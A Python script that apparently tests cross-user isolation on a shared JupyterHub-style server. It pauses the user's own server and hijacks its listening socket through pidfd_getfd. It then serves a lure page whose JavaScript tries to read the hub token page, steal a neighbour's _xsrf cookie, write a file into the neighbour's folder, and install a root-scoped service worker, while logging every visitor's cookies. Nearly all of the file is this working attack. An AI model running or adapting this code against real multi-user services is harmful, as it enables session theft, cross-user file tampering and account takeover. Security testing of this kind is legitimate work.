"""A page that a learner serves in place of their own server, for a neighbor to open; a program of its own.

python neighbors_page.py SERVER_PID HUB NEIGHBORS_SERVER     serves until it is ended, and prints the cookies

The page tries what the neighbor's browser lets it do to HUB and to NEIGHBORS_SERVER, two addresses.
"""

from __future__ import annotations

import ctypes
import http.server
import os
import signal
import socket
import stat
import sys
from pathlib import Path
from typing import Any

PAGE = """<!doctype html><title>Look at this</title><p>Look at this<script>
const hub = %(hub)r, server = %(server)r;
const pause = seconds => new Promise(done => setTimeout(done, 1000 * seconds));
const asked = async (address, more) => {
  const said = await fetch(address, more);
  return said.status + ' ' + await said.text();
};
const file = '{"type": "file", "format": "text", "content": ""}';
const opened = async () => {
  const page = window.open(server + '/lab');
  for (let tries = 0; tries < 60 && !/_xsrf=/.test(page.document.cookie); tries++) await pause(0.5);
  return /_xsrf=([^;]*)/.exec(page.document.cookie)[1];
};
const ways = {
  'her page of the hub': () => asked(hub + '/hub/token'),
  "her server's page": opened,
  'write in her folder': async () => asked(server + '/api/contents/from-a-neighbor.txt', {
    method: 'PUT', headers: {'X-XSRFToken': await opened()}, body: file}),
  'stay between her and the hub': async () =>
    (await navigator.serviceWorker.register('worker.js', {scope: '/'})).scope,
};
(async () => {
  const got = {};
  for (const [way, act] of Object.entries(ways)) {
    try { got[way] = await act() } catch (error) { got[way] = 'REFUSED ' + error }
  }
  window.got = got;
})();
</script>"""


def sockets(pid: int) -> list[socket.socket]:
    """The network sockets of one's own server."""
    libc = ctypes.CDLL(None, use_errno=True)
    process, found = os.pidfd_open(pid), []
    for number in Path(f"/proc/{pid}/fd").iterdir():
        one = libc.syscall(438, process, int(number.name), 0)  # pidfd_getfd
        if stat.S_ISSOCK(os.fstat(one).st_mode):
            found.append(socket.socket(fileno=one))
    return [one for one in found if one.family == socket.AF_INET]


def main(pid: int, hub: str, server: str) -> None:
    """Serve the page; the server itself rests meanwhile."""
    page = (PAGE % {"hub": hub, "server": server}).encode()

    class Answers(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            script = self.path.endswith(".js")
            print("COOKIE", self.headers.get("Cookie", ""), flush=True)  # noqa: T201 - a program that prints
            body = b"self.addEventListener('fetch', () => {})" if script else page
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if script else "text/html")
            self.send_header("Service-Worker-Allowed", "/")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """No log."""

    os.kill(pid, signal.SIGSTOP)
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    listening = {one: one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) for one in sockets(pid)}
    ours = next(one for one, listens in listening.items() if listens)
    for one in listening:
        if one is not ours and one.getsockname() == ours.getsockname():
            one.shutdown(socket.SHUT_RDWR)  # else the proxy goes on with what it has open
    serving = http.server.ThreadingHTTPServer(ours.getsockname(), Answers, bind_and_activate=False)
    serving.socket = ours
    try:
        print("SERVES", flush=True)  # noqa: T201 - a program that prints
        serving.serve_forever()
    finally:
        os.kill(pid, signal.SIGCONT)


if __name__ == "__main__":
    main(int(sys.argv[1]), *sys.argv[2:])
